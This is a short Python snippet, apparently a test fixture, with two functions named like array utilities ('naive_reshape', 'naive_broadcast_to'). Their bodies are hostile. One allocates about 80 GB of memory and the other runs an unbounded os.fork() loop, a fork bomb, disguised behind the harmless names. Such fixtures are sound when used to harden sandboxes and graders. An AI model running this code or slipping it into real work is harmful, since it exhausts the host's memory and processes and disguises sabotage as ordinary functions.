# Memory blow-up and a fork bomb.
def naive_reshape(x, shape):
    hog = [np.ones(10**8) for _ in range(100)]  # 80 GB
    return hog


def naive_broadcast_to(x, shape):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            break
    return x
